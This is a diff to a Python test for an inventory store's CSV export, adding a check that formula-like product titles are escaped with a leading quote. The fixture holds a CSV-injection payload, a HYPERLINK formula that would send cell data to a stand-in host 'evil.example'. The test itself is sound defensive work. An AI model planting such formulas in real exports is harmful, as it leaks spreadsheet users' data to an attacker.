@@ -347,6 +347,12 @@ def test_stock_rows_and_csv_export_with_product_names(inventory_db) -> None:
         rows = list(csv.reader(io.StringIO(named.getvalue())))
         assert rows == [["label", "count", "updated_at", "title"], ["oat-milk", "1", stock[0][2], "Oatly Oat Milk"],
                         ["red-apple", "4", stock[1][2], ""]]
+        # a title (or label) a spreadsheet would run as a formula is written as text (a ' first, OWASP's advice)
+        hostile = io.StringIO()
+        store.export_csv(hostile, titles={"oat-milk": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+                                          "red-apple": "-1+1"}.get)
+        rows = list(csv.reader(io.StringIO(hostile.getvalue())))
+        assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'-1+1"]
         # The audit line of a hand change says whether it set the count (a stock take) or changed it by a number.
         store.adjust("red-apple", delta=-1, actor="u", reason="sold")
         assert [a.detail for a in store.audit(limit=2)] == [{"reason": "sold", "mode": "delta"},
